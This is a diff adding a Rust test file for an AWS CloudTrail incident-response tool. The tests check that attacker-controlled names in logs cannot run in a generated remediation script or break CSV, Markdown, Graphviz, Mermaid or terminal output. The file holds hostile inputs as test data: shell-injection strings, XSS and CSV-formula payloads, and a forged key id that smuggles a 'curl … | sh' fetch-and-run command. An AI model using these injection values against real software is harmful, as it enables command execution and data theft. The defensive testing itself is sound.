@@ -1,0 +1,830 @@
+//! SPEC §8 and §9 on hostile evidence the tests build themselves: log text chosen by the
+//! attacker never runs in `plan.sh`, each output format escapes for itself, and no output
+//! ever overwrites or pollutes the evidence.
+
+use crate::util::*;
+use serde_json::Value;
+use std::path::{Path, PathBuf};
+use tempfile::TempDir;
+use trailhound::gen::scenario::Scenario;
+
+/// 2024-03-11T10:00:00Z
+const T0: i64 = 1_710_151_200;
+const MAIN: &str = "111122223333";
+const SECOND: &str = "444455556666";
+const LEAKED: &str = "AKIAIOSFODNN7EXAMPLE";
+
+/// Pieces of text an attacker would put in names to break out of a shell word, a comment,
+/// a table or a terminal.
+const HOSTILE: &[&str] = &[
+    "$(echo PWNED >> canary)",
+    "`echo PWNED >> canary`",
+    "; echo PWNED >> canary;",
+    "\necho PWNED >> canary\n",
+    "' ; echo PWNED >> canary ; '",
+    "\" ; echo PWNED >> canary ; \"",
+    "\\",
+    "|",
+    "&",
+    "\r",
+    "\u{1b}[2J\u{1b}[31m",
+    "#",
+    "*",
+    "~",
+    "{a,b}",
+    "${HOME}",
+    "%s%n",
+    " ",
+    "é",
+    "\u{2028}",
+    "\u{202e}",
+    "<script>alert(1)</script>",
+    "=HYPERLINK(\"x\")",
+    "ok-name",
+    ".@+=,_",
+];
+
+const FAKE_AWS: &str = r#"#!/bin/bash
+{ printf 'CALL\0'; for a in "$@"; do printf '%s\0' "$a"; done; } >> "$FAKE_AWS_LOG"
+arg() { local f=$1; shift; while [ $# -gt 0 ]; do if [ "$1" = "$f" ]; then printf '%s' "$2"; return; fi; shift; done; }
+op="$1 $2"
+fail() { echo "An error occurred ($1) when calling the $2 operation: $3" >&2; exit 254; }
+if [ "$op" = "sts get-caller-identity" ]; then printf '%s\n' "$FAKE_AWS_ACCOUNT"; exit 0; fi
+[ -n "${FAKE_AWS_STATE:-}" ] || exit 0
+u=$(arg --user-name "$@")
+ud="$FAKE_AWS_STATE/users/$u"
+[ -n "$u" ] && [ -d "$ud" ] || exit 0
+case "$op" in
+  "iam update-access-key") [ -e "$ud/keys/$(arg --access-key-id "$@")" ] || fail NoSuchEntity UpdateAccessKey "no such key";;
+  "iam delete-access-key") k="$ud/keys/$(arg --access-key-id "$@")"; [ -e "$k" ] || fail NoSuchEntity DeleteAccessKey "no such key"; /bin/rm "$k";;
+  "iam put-user-policy") /bin/mkdir -p "$ud/inline"; : > "$ud/inline/$(arg --policy-name "$@")";;
+  "iam delete-user-policy") f="$ud/inline/$(arg --policy-name "$@")"; [ -e "$f" ] || fail NoSuchEntity DeleteUserPolicy "no such policy"; /bin/rm "$f";;
+  "iam delete-login-profile") [ -e "$ud/login" ] || fail NoSuchEntity DeleteLoginProfile "no login profile"; /bin/rm "$ud/login";;
+  "iam detach-user-policy") a=$(arg --policy-arn "$@"); f="$ud/attached/${a//\//_}"; [ -e "$f" ] || fail NoSuchEntity DetachUserPolicy "not attached"; /bin/rm "$f";;
+  "iam remove-user-from-group") f="$ud/groups/$(arg --group-name "$@")"; [ -e "$f" ] || fail NoSuchEntity RemoveUserFromGroup "not a member"; /bin/rm "$f";;
+  "iam delete-user")
+    [ -e "$ud/login" ] && fail DeleteConflict DeleteUser "login profile must be deleted first"
+    for d in keys inline attached groups mfa; do
+      for f in "$ud/$d"/*; do [ -e "$f" ] && fail DeleteConflict DeleteUser "$d must be removed first"; done
+    done
+    /bin/rm -r "$ud";;
+esac
+exit 0
+"#;
+
+/// A small seeded PRNG (splitmix64): the property test is reproducible.
+struct Rng(u64);
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.0;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        z ^ (z >> 31)
+    }
+    fn below(&mut self, n: usize) -> usize {
+        (self.next() % n as u64) as usize
+    }
+    fn hostile(&mut self) -> String {
+        let mut s = String::new();
+        for _ in 0..1 + self.below(3) {
+            s.push_str(HOSTILE[self.below(HOSTILE.len())]);
+        }
+        if self.below(3) == 0 {
+            s.push_str("x1");
+        }
+        s
+    }
+}
+
+/// A tainted chain whose every attacker-chosen field is `h(…)`: role and session names, a
+/// created user and its policy, a created key id, a bucket, a user agent, and a hop into an
+/// account whose logs are missing (so that a resource-policy deny names the session).
+fn hostile_trail(dir: &Path, rng: &mut Rng) {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    s.call(&leaked, T0, "sts.amazonaws.com", "GetCallerIdentity", Value::Null);
+    let role = format!("arn:aws:iam::{MAIN}:role/{}", rng.hostile());
+    let admin = s.assume_role(&leaked, T0 + 60, &role, &rng.hostile(), 43_200);
+    s.call_full(
+        &admin,
+        T0 + 70,
+        "iam.amazonaws.com",
+        "ListUsers",
+        Value::Null,
+        Value::Null,
+        None,
+        &rng.hostile(),
+    );
+    let user = rng.hostile();
+    s.create_user(&admin, T0 + 80, &user);
+    s.create_login_profile(&admin, T0 + 90, &user);
+    s.attach_user_policy(
+        &admin,
+        T0 + 100,
+        &user,
+        &format!("arn:aws:iam::aws:policy/{}", rng.hostile()),
+    );
+    s.put_user_policy(&admin, T0 + 105, &user, &rng.hostile());
+    s.add_user_to_group(&admin, T0 + 106, &user, &rng.hostile());
+    let key = if rng.below(2) == 0 { rng.hostile() } else { s.new_key("AKIA") };
+    let backdoor = s.create_access_key_with(&admin, T0 + 110, Some(&user), &key);
+    s.call(&backdoor, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let foreign_role = format!("arn:aws:iam::{SECOND}:role/{}", rng.hostile());
+    let hop = s.assume_role(&admin, T0 + 130, &foreign_role, &rng.hostile(), 3600);
+    s.get_object(&hop, T0 + 140, MAIN, &rng.hostile(), &rng.hostile());
+    s.call(
+        &admin,
+        T0 + 150,
+        "cloudtrail.amazonaws.com",
+        "StopLogging",
+        serde_json::json!({"name": rng.hostile()}),
+    );
+    s.write(dir, &[SECOND]).unwrap();
+}
+
+/// A directory with a fake `aws` and nothing else: a script that tries to run anything but
+/// `aws` finds no such command. The fake appends its arguments (NUL-separated, one `CALL` per
+/// run) to `$FAKE_AWS_LOG`, answers `sts get-caller-identity` with `$FAKE_AWS_ACCOUNT`, and,
+/// when `$FAKE_AWS_STATE` names a directory, enforces IAM's preconditions on the users found
+/// there (`users/NAME/{keys,inline,attached,groups,mfa}/…` and `users/NAME/login`):
+/// `delete-user` fails with DeleteConflict while anything remains, deleting what does not exist
+/// fails with NoSuchEntity, as AWS answers.
+pub fn fake_aws(dir: &Path) -> PathBuf {
+    let bin = dir.join("fakebin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let aws = bin.join("aws");
+    std::fs::write(&aws, FAKE_AWS).unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&aws, std::fs::Permissions::from_mode(0o755)).unwrap();
+    bin
+}
+
+fn recorded_calls(log: &Path) -> Vec<Vec<String>> {
+    let data = std::fs::read(log).unwrap_or_default();
+    let mut calls: Vec<Vec<String>> = Vec::new();
+    for part in data.split(|&b| b == 0) {
+        let s = String::from_utf8(part.to_vec()).unwrap();
+        if s == "CALL" {
+            calls.push(Vec::new());
+        } else if let Some(c) = calls.last_mut() {
+            c.push(s);
+        }
+    }
+    // The split leaves one empty piece after the last NUL.
+    if let Some(c) = calls.last_mut() {
+        if c.last().is_some_and(String::is_empty) {
+            c.pop();
+        }
+    }
+    calls
+}
+
+/// What each action of `plan.json` must make `aws` receive, derived here from the action's
+/// own fields, independently of the planner.
+fn described_calls(plan: &Value, account: &str) -> Vec<Vec<String>> {
+    let mut out = vec![vec![
+        "sts".to_string(),
+        "get-caller-identity".into(),
+        "--query".into(),
+        "Account".into(),
+        "--output".into(),
+        "text".into(),
+    ]];
+    for a in plan["actions"].as_array().unwrap() {
+        if a["account_id"] != account {
+            continue;
+        }
+        let f = |k: &str| a[k].as_str().unwrap_or_else(|| panic!("{k} in {a}")).to_string();
+        let doc = || serde_json::to_string(&a["policy_document"]).unwrap();
+        let words: Vec<String> = match a["type"].as_str().unwrap() {
+            "deactivate_access_key" => vec![
+                "iam".into(),
+                "update-access-key".into(),
+                "--user-name".into(),
+                f("user_name"),
+                "--access-key-id".into(),
+                f("access_key_id"),
+                "--status".into(),
+                "Inactive".into(),
+            ],
+            "delete_access_key" => vec![
+                "iam".into(),
+                "delete-access-key".into(),
+                "--user-name".into(),
+                f("user_name"),
+                "--access-key-id".into(),
+                f("access_key_id"),
+            ],
+            t @ ("put_role_policy" | "put_user_policy") => {
+                let arn = f("principal_arn");
+                let name = arn.rsplit('/').next().unwrap().to_string();
+                let (verb, flag) = if t == "put_role_policy" {
+                    ("put-role-policy", "--role-name")
+                } else {
+                    ("put-user-policy", "--user-name")
+                };
+                vec![
+                    "iam".into(),
+                    verb.into(),
+                    flag.into(),
+                    name,
+                    "--policy-name".into(),
+                    f("policy_name"),
+                    "--policy-document".into(),
+                    doc(),
+                ]
+            }
+            "resource_policy_deny" => match f("principal_arn").strip_prefix("arn:aws:s3:::") {
+                Some(b) => vec![
+                    "s3api".into(),
+                    "put-bucket-policy".into(),
+                    "--bucket".into(),
+                    b.into(),
+                    "--policy".into(),
+                    doc(),
+                ],
+                None => continue,
+            },
+            "delete_login_profile" => {
+                vec![
+                    "iam".into(),
+                    "delete-login-profile".into(),
+                    "--user-name".into(),
+                    f("user_name"),
+                ]
+            }
+            "detach_user_policy" => vec![
+                "iam".into(),
+                "detach-user-policy".into(),
+                "--user-name".into(),
+                f("user_name"),
+                "--policy-arn".into(),
+                f("policy_arn"),
+            ],
+            "delete_user_policy" => vec![
+                "iam".into(),
+                "delete-user-policy".into(),
+                "--user-name".into(),
+                f("user_name"),
+                "--policy-name".into(),
+                f("policy_name"),
+            ],
+            "remove_user_from_group" => vec![
+                "iam".into(),
+                "remove-user-from-group".into(),
+                "--user-name".into(),
+                f("user_name"),
+                "--group-name".into(),
+                f("group_name"),
+            ],
+            "delete_user" => {
+                vec!["iam".into(), "delete-user".into(), "--user-name".into(), f("user_name")]
+            }
+            "review" => continue,
+            t => panic!("unknown action type {t}"),
+        };
+        out.push(words);
+    }
+    out
+}
+
+/// Runs `plan.sh` (its review guard removed) with only the fake `aws` on PATH, as with
+/// credentials of `account`.
+fn run_script(script: &str, shell: &str, work: &Path, account: &str) -> (Vec<Vec<String>>, String) {
+    let body = script
+        .replace("echo 'Review this script, then delete this line and the exit below to run it.' >&2\nexit 1\n", "");
+    assert_ne!(body, script, "the review guard is where the test expects it");
+    let path = work.join("plan.sh");
+    std::fs::write(&path, body).unwrap();
+    let bin = fake_aws(work);
+    let log = work.join("aws.log");
+    let _ = std::fs::remove_file(&log);
+    let out = std::process::Command::new(shell)
+        .arg(&path)
+        .current_dir(work)
+        .env_clear()
+        .env("PATH", &bin)
+        .env("FAKE_AWS_LOG", &log)
+        .env("FAKE_AWS_ACCOUNT", account)
+        .env("HOME", work)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
+    assert!(out.status.success(), "{shell} plan.sh failed: {stderr}");
+    (recorded_calls(&log), stderr)
+}
+
+fn plan_of(dir: &Path, strategy: &str, out: &Path) -> (Value, String) {
+    let plan = out.join("plan.json");
+    let script = out.join("plan.sh");
+    let o = bin()
+        .args(["plan", "--no-progress", "--key", LEAKED, "--strategy", strategy])
+        .args(["--effective-at", "2024-03-11T10:30:00Z", "-o"])
+        .arg(&plan)
+        .arg("--script")
+        .arg(&script)
+        .arg(dir)
+        .output()
+        .unwrap();
+    assert!(o.status.code() == Some(0), "plan failed: {}", String::from_utf8_lossy(&o.stderr));
+    (json(&std::fs::read(&plan).unwrap()), std::fs::read_to_string(&script).unwrap())
+}
+
+#[test]
+fn hostile_names_never_run_in_plan_sh_and_aws_gets_exactly_the_planned_arguments() {
+    let mut rng = Rng(0x7A11_4040);
+    let shells: Vec<&str> =
+        ["/bin/sh", "/bin/bash"].into_iter().filter(|s| Path::new(s).exists()).collect();
+    let mut commands_run = 0;
+    for case in 0..24 {
+        let d = TempDir::new().unwrap();
+        let trail = d.path().join("trail");
+        hostile_trail(&trail, &mut rng);
+        let out = d.path().join("out");
+        std::fs::create_dir_all(&out).unwrap();
+        for strategy in ["strict", "surgical"] {
+            let (plan, script) = plan_of(&trail, strategy, &out);
+            let mut accounts: Vec<&str> = plan["actions"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .filter_map(|a| a["account_id"].as_str())
+                .filter(|a| a.len() == 12 && a.bytes().all(|b| b.is_ascii_digit()))
+                .collect();
+            accounts.sort();
+            accounts.dedup();
+            assert!(
+                accounts.contains(&MAIN),
+                "case {case}: the leaked key is at least deactivated"
+            );
+            for shell in &shells {
+                for account in &accounts {
+                    let expected = described_calls(&plan, account);
+                    let (calls, stderr) = run_script(&script, shell, &out, account);
+                    assert!(
+                        !out.join("canary").exists(),
+                        "case {case} ({strategy}, {shell}): log text ran in plan.sh:\n{script}"
+                    );
+                    let noise: Vec<&str> =
+                        stderr.lines().filter(|l| !l.starts_with("plan.sh: ")).collect();
+                    assert!(
+                        noise.is_empty(),
+                        "case {case} ({strategy}, {shell}): {stderr}\n{script}"
+                    );
+                    assert_eq!(
+                        calls, expected,
+                        "case {case} ({strategy}, {shell}, {account}): aws received other arguments than plan.json describes"
+                    );
+                    commands_run += calls.len() - 1;
+                }
+            }
+            // verify parses every command as shell words and agrees (SPEC §6).
+            let v = bin()
+                .args(["verify", "--no-progress", "--format", "json", "--plan"])
+                .arg(out.join("plan.json"))
+                .arg(&trail)
+                .output()
+                .unwrap();
+            let vj = json(&v.stdout);
+            assert_eq!(vj["command_problems"], serde_json::json!([]), "case {case}: {vj}");
+            // No comment line of the script carries log text past its end.
+            for line in script.lines() {
+                assert!(
+                    !line.chars().any(|c| c.is_control() && c != '\t'),
+                    "control character in {line:?}"
+                );
+            }
+        }
+    }
+    assert!(commands_run > 100, "the property test ran real commands ({commands_run})");
+}
+
+/// A trail with plausible names, for the shellcheck and output-format tests.
+fn plain_incident(dir: &Path) -> Scenario {
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let admin = s.assume_role(
+        &leaked,
+        T0 + 60,
+        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
+        "ci",
+        43_200,
+    );
+    s.create_user(&admin, T0 + 80, "backup-admin");
+    s.create_login_profile(&admin, T0 + 90, "backup-admin");
+    s.attach_user_policy(
+        &admin,
+        T0 + 100,
+        "backup-admin",
+        "arn:aws:iam::aws:policy/AdministratorAccess",
+    );
+    let k = s.create_access_key(&admin, T0 + 110, Some("backup-admin"));
+    s.call(&k, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let hop = s.assume_role(
+        &admin,
+        T0 + 130,
+        &format!("arn:aws:iam::{SECOND}:role/Audit"),
+        "audit",
+        3600,
+    );
+    s.get_object(&hop, T0 + 140, MAIN, "corp-data", "secrets.csv");
+    s.write(dir, &[SECOND]).unwrap();
+    s
+}
+
+/// A tool the CI installs (`.ci/run`); elsewhere its absence skips the check with a reason.
+fn tool(name: &str) -> Option<PathBuf> {
+    for dir in ["/usr/bin", "/usr/local/bin", "/bin"] {
+        let p = Path::new(dir).join(name);
+        if p.exists() {
+            return Some(p);
+        }
+    }
+    assert!(std::env::var_os("CI").is_none(), "{name} is missing on CI: .ci/run installs it");
+    eprintln!("SKIPPED: {name} is not installed (.ci/run installs it)");
+    None
+}
+
+#[test]
+fn plan_sh_passes_bash_n_and_shellcheck_on_hostile_and_plain_input() {
+    let mut rng = Rng(99);
+    for hostile in [false, true] {
+        let d = TempDir::new().unwrap();
+        let trail = d.path().join("trail");
+        if hostile {
+            hostile_trail(&trail, &mut rng);
+        } else {
+            plain_incident(&trail);
+        }
+        let out = d.path().join("out");
+        std::fs::create_dir_all(&out).unwrap();
+        let (_, script) = plan_of(&trail, "surgical", &out);
+        let p = out.join("plan.sh");
+        std::fs::write(&p, &script).unwrap();
+        let n = std::process::Command::new("bash").arg("-n").arg(&p).output().unwrap();
+        assert!(n.status.success(), "bash -n: {}", String::from_utf8_lossy(&n.stderr));
+        if let Some(sc) = tool("shellcheck") {
+            // SC2317: the commands after the review guard's `exit 1` are unreachable on purpose.
+            let o = std::process::Command::new(sc)
+                .args(["-s", "sh", "-e", "SC2317"])
+                .arg(&p)
+                .output()
+                .unwrap();
+            assert!(
+                o.status.success(),
+                "shellcheck:\n{}\n{script}",
+                String::from_utf8_lossy(&o.stdout)
+            );
+        }
+    }
+}
+
+#[test]
+fn dot_and_mermaid_outputs_are_valid_and_escaped() {
+    let mut rng = Rng(5);
+    for hostile in [false, true] {
+        let d = TempDir::new().unwrap();
+        let trail = d.path().join("trail");
+        if hostile {
+            hostile_trail(&trail, &mut rng);
+        } else {
+            plain_incident(&trail);
+        }
+        let dot = bin()
+            .args(["sessions", "--no-progress", "--format", "dot", "--key", LEAKED])
+            .arg(&trail)
+            .output()
+            .unwrap();
+        let text = String::from_utf8(dot.stdout).unwrap();
+        assert!(text.contains("shape=box"), "{text}");
+        assert!(!text.contains("[box"), "attributes are name=value pairs: {text}");
+        if let Some(d) = tool("dot") {
+            let mut c = std::process::Command::new(d)
+                .arg("-Tsvg")
+                .stdin(std::process::Stdio::piped())
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::piped())
+                .spawn()
+                .unwrap();
+            use std::io::Write;
+            c.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
+            let o = c.wait_with_output().unwrap();
+            assert!(
+                o.status.success(),
+                "Graphviz rejects the DOT:\n{}\n{text}",
+                String::from_utf8_lossy(&o.stderr)
+            );
+            let svg = String::from_utf8_lossy(&o.stdout);
+            assert!(!svg.contains("<script"), "no markup from a log reaches the SVG");
+        }
+        let mm = bin()
+            .args(["sessions", "--no-progress", "--format", "mermaid", "--key", LEAKED])
+            .arg(&trail)
+            .output()
+            .unwrap();
+        let text = String::from_utf8(mm.stdout).unwrap();
+        for line in text.lines().skip(1) {
+            let t = line.trim();
+            // Node lines: id["label"]; edge lines: a -->|label| b. No quote, bracket, pipe or
+            // angle bracket from a log inside a label.
+            if let Some(rest) = t.split_once("[\"").map(|x| x.1) {
+                let label = rest.strip_suffix("\"]").unwrap_or_else(|| panic!("{line}"));
+                let label = label.replace("<br/>", "");
+                assert!(!label.contains(['"', '<', '>', '[', ']', '|']), "{line}");
+            } else {
+                let parts: Vec<&str> = t.split('|').collect();
+                assert_eq!(parts.len(), 3, "{line}");
+            }
+        }
+    }
+}
+
+#[test]
+fn csv_markdown_and_terminal_outputs_neutralise_log_text() {
+    let d = TempDir::new().unwrap();
+    let trail = d.path().join("trail");
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let ua = "=HYPERLINK(\"http://203.0.113.9/x\",\"click\")";
+    s.call_full(&leaked, T0, "s3.amazonaws.com", "ListBuckets", Value::Null, Value::Null, None, ua);
+    let evil = "<img src=x onerror=alert(1)>|\n| injected | row |\u{1b}[2J";
+    s.call_full(&leaked, T0 + 5, "iam.amazonaws.com", "CreateUser", serde_json::json!({"userName": evil}),
+        serde_json::json!({"user": {"userName": evil, "arn": format!("arn:aws:iam::{MAIN}:user/{evil}")}}), None, "-cmd|' /C calc'!A0");
+    s.write(&trail, &[]).unwrap();
+
+    // CSV: no cell starts with a formula character.
+    let csv = d.path().join("events.csv");
+    let o = bin().args(["export", "--no-progress", "-o"]).arg(&csv).arg(&trail).output().unwrap();
+    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
+    let text = std::fs::read_to_string(&csv).unwrap();
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+    assert!(text.contains("'-cmd"), "{text}");
+    for line in text.lines() {
+        for cell in line.split(',') {
+            let c = cell.trim_start_matches('"');
+            assert!(!c.starts_with(['=', '+', '@']), "formula cell {cell:?} in {line}");
+        }
+    }
+    // Markdown: no raw HTML, no extra table row.
+    let md = bin()
+        .args(["blast", "--no-progress", "--format", "markdown", "--key", LEAKED])
+        .arg(&trail)
+        .output()
+        .unwrap();
+    let md = String::from_utf8(md.stdout).unwrap();
+    assert!(!md.contains("<img"), "{md}");
+    assert!(md.contains("&lt;img"), "{md}");
+    assert!(!md.contains("\n| injected"), "{md}");
+    assert!(!md.contains('\u{1b}'));
+    // Terminal: no escape sequence, no line break from a log.
+    for args in [&["blast", "--key", LEAKED][..], &["sessions", "--key", LEAKED], &["scan"]] {
+        let o = bin().args(args).arg("--no-progress").arg(&trail).output().unwrap();
+        let out = String::from_utf8(o.stdout).unwrap();
+        assert!(!out.contains('\u{1b}'), "{args:?}: raw escape sequence");
+        assert!(!out.lines().any(|l| l.starts_with("| injected")), "{args:?}: {out}");
+    }
+}
+
+fn assert_refused(args: &[&str], trail: &Path, untouched: &Path) {
+    let before = std::fs::read(untouched).ok();
+    let o = bin().args(args).arg("--no-progress").arg(trail).output().unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{args:?}: {err}");
+    assert!(err.contains("refusing to write"), "{args:?}: {err}");
+    assert_eq!(std::fs::read(untouched).ok(), before, "{args:?} touched {}", untouched.display());
+}
+
+#[test]
+fn outputs_never_overwrite_or_pollute_the_evidence() {
+    let d = TempDir::new().unwrap();
+    let trail = d.path().join("trail");
+    plain_incident(&trail);
+    let input = files_under(&trail)[0].clone();
+    let inp = input.to_str().unwrap();
+    let inside = trail.join("AWSLogs/out.json");
+    let ins = inside.to_str().unwrap();
+    // Into the trail, or onto one of its files, through each option that writes.
+    assert_refused(&["plan", "--key", LEAKED, "-o", ins], &trail, &inside);
+    assert_refused(&["plan", "--key", LEAKED, "--script", inp], &trail, &input);
+    assert_refused(
+        &["blast", "--key", LEAKED, "--events-out", &format!("{ins}l")],
+        &trail,
+        &inside,
+    );
+    assert_refused(&["export", "-o", &format!("{}/x.parquet", trail.display())], &trail, &input);
+    assert_refused(&["export", "--partition", "-o", trail.to_str().unwrap()], &trail, &input);
+    assert_refused(
+        &["investigate", "--key", LEAKED, "-o", trail.join("case").to_str().unwrap()],
+        &trail,
+        &input,
+    );
+    assert!(!trail.join("case").exists(), "the case folder is not created");
+    // An input named as a file: the output may not be that file, even through a symlink.
+    let link = d.path().join("link.jsonl");
+    std::os::unix::fs::symlink(&input, &link).unwrap();
+    std::fs::create_dir_all(d.path().join("sub")).unwrap();
+    assert_refused(
+        &["export", "-o", &format!("{}", d.path().join("sub/../link.jsonl").display())],
+        &input,
+        &input,
+    );
+    let o = bin()
+        .args(["plan", "--no-progress", "--key", LEAKED, "-o"])
+        .arg(&link)
+        .arg(&input)
+        .output()
+        .unwrap();
+    assert_eq!(
+        o.status.code(),
+        Some(2),
+        "symlink to the input: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    // Beside the trail is fine.
+    let ok = d.path().join("plan.json");
+    let o = bin()
+        .args(["plan", "--no-progress", "--key", LEAKED, "-o"])
+        .arg(&ok)
+        .arg(&trail)
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
+}
+
+#[test]
+fn an_implausible_key_id_never_reaches_a_command() {
+    let d = TempDir::new().unwrap();
+    let trail = d.path().join("trail");
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let admin =
+        s.assume_role(&leaked, T0, &format!("arn:aws:iam::{MAIN}:role/AdminRole"), "ci", 3600);
+    s.create_user(&admin, T0 + 10, "svc");
+    let forged = "AKIA1234;curl 203.0.113.9|sh";
+    s.create_access_key_with(&admin, T0 + 20, Some("svc"), forged);
+    s.write(&trail, &[]).unwrap();
+    let out = d.path().join("out");
+    std::fs::create_dir_all(&out).unwrap();
+    let (plan, script) = plan_of(&trail, "strict", &out);
+    assert!(!script.lines().any(|l| !l.starts_with('#') && l.contains("curl")), "{script}");
+    let acts = plan["actions"].as_array().unwrap();
+    assert!(acts.iter().all(|a| a["access_key_id"].as_str() != Some(forged)), "{plan}");
+    assert!(
+        acts.iter().any(|a| a["type"] == "review"
+            && a["reason"].as_str().unwrap().contains("not a valid access key id")),
+        "{plan}"
+    );
+}
+
+/// Sets up the fake IAM state of `user`: what the incident gave it.
+struct IamUser<'a> {
+    keys: &'a [&'a str],
+    login: bool,
+    attached: &'a [&'a str],
+    inline: &'a [&'a str],
+    groups: &'a [&'a str],
+    mfa: &'a [&'a str],
+}
+
+fn iam_user(state: &Path, user: &str, u: IamUser) {
+    let ud = state.join("users").join(user);
+    let (keys, login, attached, groups, mfa) = (u.keys, u.login, u.attached, u.groups, u.mfa);
+    for (dir, items) in [
+        ("keys", keys),
+        ("attached", attached),
+        ("inline", u.inline),
+        ("groups", groups),
+        ("mfa", mfa),
+    ] {
+        std::fs::create_dir_all(ud.join(dir)).unwrap();
+        for i in items {
+            std::fs::write(ud.join(dir).join(i.replace('/', "_")), b"").unwrap();
+        }
+    }
+    std::fs::create_dir_all(ud.join("inline")).unwrap();
+    if login {
+        std::fs::write(ud.join("login"), b"").unwrap();
+    }
+}
+
+fn run_with_state(script: &str, work: &Path, state: &Path, account: &str) -> (bool, String) {
+    let body = script.replace(
+        "echo 'Review this script, then delete this line and the exit below to run it.' >&2\nexit 1\n",
+        "",
+    );
+    let path = work.join("plan.sh");
+    std::fs::write(&path, body).unwrap();
+    let bin = fake_aws(work);
+    let out = std::process::Command::new("/bin/sh")
+        .arg(&path)
+        .current_dir(work)
+        .env_clear()
+        .env("PATH", &bin)
+        .env("FAKE_AWS_LOG", work.join("aws.log"))
+        .env("FAKE_AWS_ACCOUNT", account)
+        .env("FAKE_AWS_STATE", state)
+        .output()
+        .unwrap();
+    (out.status.success(), String::from_utf8_lossy(&out.stderr).to_string())
+}
+
+#[test]
+fn plan_sh_runs_end_to_end_against_aws_preconditions() {
+    let d = TempDir::new().unwrap();
+    let trail = d.path().join("trail");
+    let mut s = Scenario::new();
+    let leaked = s.user_key(MAIN, "ci-deployer", LEAKED);
+    let admin = s.assume_role(
+        &leaked,
+        T0 + 60,
+        &format!("arn:aws:iam::{MAIN}:role/AdminRole"),
+        "ci",
+        43_200,
+    );
+    s.create_user(&admin, T0 + 80, "backup-admin");
+    s.create_login_profile(&admin, T0 + 90, "backup-admin");
+    s.attach_user_policy(
+        &admin,
+        T0 + 100,
+        "backup-admin",
+        "arn:aws:iam::aws:policy/AdministratorAccess",
+    );
+    s.put_user_policy(&admin, T0 + 101, "backup-admin", "inline-admin");
+    s.add_user_to_group(&admin, T0 + 102, "backup-admin", "admins");
+    let k1 = s.create_access_key(&admin, T0 + 110, Some("backup-admin"));
+    let k2 = s.create_access_key(&k1, T0 + 115, None);
+    s.call(&k2, T0 + 120, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    let hop = s.assume_role(
+        &admin,
+        T0 + 130,
+        &format!("arn:aws:iam::{SECOND}:role/Audit"),
+        "audit",
+        3600,
+    );
+    s.call(&hop, T0 + 140, "s3.amazonaws.com", "ListBuckets", Value::Null);
+    s.write(&trail, &[]).unwrap();
+    let out = d.path().join("out");
+    std::fs::create_dir_all(&out).unwrap();
+    let (plan, script) = plan_of(&trail, "strict", &out);
+
+    let fresh_state = |mfa: &[&str]| {
+        let state = TempDir::new().unwrap();
+        let keys = [k1.key.as_str(), k2.key.as_str()];
+        let attached = ["arn:aws:iam::aws:policy/AdministratorAccess"];
+        iam_user(
+            state.path(),
+            "backup-admin",
+            IamUser {
+                keys: &keys,
+                login: true,
+                attached: &attached,
+                inline: &["inline-admin"],
+                groups: &["admins"],
+                mfa,
+            },
+        );
+        iam_user(
+            state.path(),
+            "ci-deployer",
+            IamUser {
+                keys: &[LEAKED],
+                login: false,
+                attached: &[],
+                inline: &[],
+                groups: &[],
+                mfa: &[],
+            },
+        );
+        state
+    };
+    // With credentials of each account in turn, the whole script runs.
+    let state = fresh_state(&[]);
+    for account in [MAIN, SECOND] {
+        let (ok, err) = run_with_state(&script, &out, state.path(), account);
+        assert!(ok, "{account}: {err}\n{script}");
+        assert!(err.contains(&format!("running the block of account {account}")), "{err}");
+    }
+    assert!(
+        !state.path().join("users/backup-admin").exists(),
+        "the attacker's user is deleted:\n{script}"
+    );
+    assert_eq!(actions_for(&plan, "delete_user").len(), 1);
+    // An account the plan does not name: nothing runs, and the script says so.
+    let (ok, err) = run_with_state(&script, &out, fresh_state(&[]).path(), "123456789012");
+    assert!(!ok && err.contains("no block of this plan is for account 123456789012"), "{err}");
+    // Something the logs do not show (an MFA device): DeleteUser refuses, the script stops.
+    let state = fresh_state(&["arn:aws:iam::111122223333:mfa/backup-admin"]);
+    let (ok, err) = run_with_state(&script, &out, state.path(), MAIN);
+    assert!(
+        !ok && err.contains("DeleteConflict"),
+        "the fake enforces DeleteUser's preconditions: {err}"
+    );
+    // The rollback section names every deny it can remove.
+    assert!(script.contains("# ----- rollback -----"), "{script}");
+    assert!(script.contains("delete-role-policy --role-name 'AdminRole'"), "{script}");
+}
+
+fn actions_for<'a>(plan: &'a Value, kind: &str) -> Vec<&'a Value> {
+    plan["actions"].as_array().unwrap().iter().filter(|a| a["type"] == kind).collect()
+}
